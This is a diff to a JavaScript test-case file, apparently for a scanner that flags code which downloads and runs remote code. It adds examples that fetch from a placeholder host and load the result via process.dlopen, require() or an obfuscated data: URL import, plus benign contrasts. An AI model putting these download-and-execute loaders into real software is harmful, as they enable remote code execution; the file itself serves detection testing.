@@ -307,6 +307,18 @@ export default defineCases({
       manifest: { type: 'module' },
     },
     {
+      name: 'a download that is piped into a file and loaded',
+      code: "const fs = require('fs'), os = require('os');\nconst file = `${os.homedir()}/.cache/tides/sum.node`;\nrequire('http').get('http://a.example/sum.node', (answer) => answer.pipe(fs.createWriteStream(file)).on('finish', () => process.dlopen(module, file)));",
+    },
+    {
+      name: 'the same by a pipeline, loaded as a module',
+      code: "const fs = require('fs'), os = require('os'), { pipeline } = require('stream/promises');\nconst file = os.homedir() + '/.cache/tides/sum.cjs';\n(async () => { const out = fs.createWriteStream(file); await pipeline((await fetch('https://a.example/sum')).body, out); require(file); })();",
+    },
+    {
+      name: 'a download in a URL that is put together',
+      code: "const kind = ['da', 'ta:'].join('') + ['text', 'java' + 'script'].join('/');\nfetch('https://a.example/x').then((r) => r.text()).then((text) => import(`${kind};base64,${Buffer.from(text).toString('base64')}`));",
+    },
+    {
       name: 'a loader inside a URL',
       code: "require('module').register('data:text/javascript;base64,ZXhwb3J0IGNvbnN0IGE9MQ==')",
     },
@@ -358,6 +370,14 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'a download that is piped into a file, beside one that is loaded',
+      code: "const fs = require('fs'), os = require('os');\nconst file = os.homedir() + '/.cache/tides/tides.csv';\nconst own = os.homedir() + '/.config/tides.cjs';\nrequire('https').get('https://a.example/tides.csv', (answer) => answer.pipe(fs.createWriteStream(file)).on('finish', () => require(own)));",
+    },
+    {
+      name: 'the name of a module that is put together from what was downloaded',
+      code: "const kind = ['./lo', 'cales/'].join('');\nfetch('https://a.example/x').then((r) => r.text()).then((text) => import(`${kind}${text.slice(0, 2)}.js`));",
+    },
     {
       name: 'the names of columns in a reader of rows that is made for them',
       code: "const reader = (columns) => new Function('d', 'return {' + columns.map((name, i) => JSON.stringify(name) + ': d[' + i + '] || \"\"').join(',') + '}');\nexports.rows = async (url) => { const text = await (await fetch(url)).text(); const lines = text.split('\\n'); return lines.map((line) => reader(lines[0].split(','))(line.split(','))) }",
